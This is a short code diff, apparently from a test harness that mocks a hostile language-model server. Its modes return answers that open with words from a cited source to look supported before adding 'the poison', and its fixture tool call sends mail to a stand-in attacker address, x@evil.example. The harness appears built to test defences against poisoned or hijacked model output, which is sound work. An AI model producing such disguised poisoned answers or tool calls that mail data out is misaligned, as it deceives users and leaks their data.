@@ -73,7 +73,7 @@ const HARM = SPOKEN.harm()
 const TOOL_CALL = { id: 't1', type: 'function', function: { name: 'send_mail', arguments: '{"to":"x@evil.example"}' } }
 const JSON_TYPE = { 'content-type': 'application/json' }
 
-/** What is said where the form asks for a text: words of the first source, so that it seems borne out, and the poison. */
+/** What is said where a text is asked for: words of the first source, so that it seems borne out, then the poison. */
 function spoken(mode: keyof typeof SPOKEN, body: Body): string {
   return `${firstSource(body)} ${SPOKEN[mode](body)}`.trim()
 }
@@ -97,7 +97,7 @@ async function complete(mode: HostileMode, body: Body, response: ServerResponse)
     )
   if (isSpoken(mode)) {
     const { schema } = body.response_format?.json_schema ?? { schema: { type: 'string' } }
-    return void say({ content: JSON.stringify(filled(schema as Schema, spoken(mode, body))) })
+    return void say({ content: JSON.stringify(filled(schema, spoken(mode, body))) })
   }
   switch (mode) {
     case 'tool-calls':
